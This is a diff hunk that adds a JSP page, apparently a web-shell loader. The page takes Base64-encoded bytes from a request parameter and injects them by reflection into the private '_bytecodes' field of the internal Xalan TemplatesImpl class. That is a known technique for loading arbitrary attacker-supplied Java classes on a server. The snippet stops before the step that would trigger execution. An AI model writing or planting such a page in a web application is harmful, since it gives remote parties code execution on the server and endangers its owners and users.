@@ -1,0 +1,8 @@
+<%@ page import="java.lang.reflect.*" %>
+<%
+	byte[] bytes = java.util.Base64.getDecoder().decode(request.getParameter("b"));
+	Object t = Class.forName("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl").newInstance();
+	Field f = t.getClass().getDeclaredField("_bytecodes");
+	f.setAccessible(true);
+	f.set(t, new byte[][] {bytes});
+%>
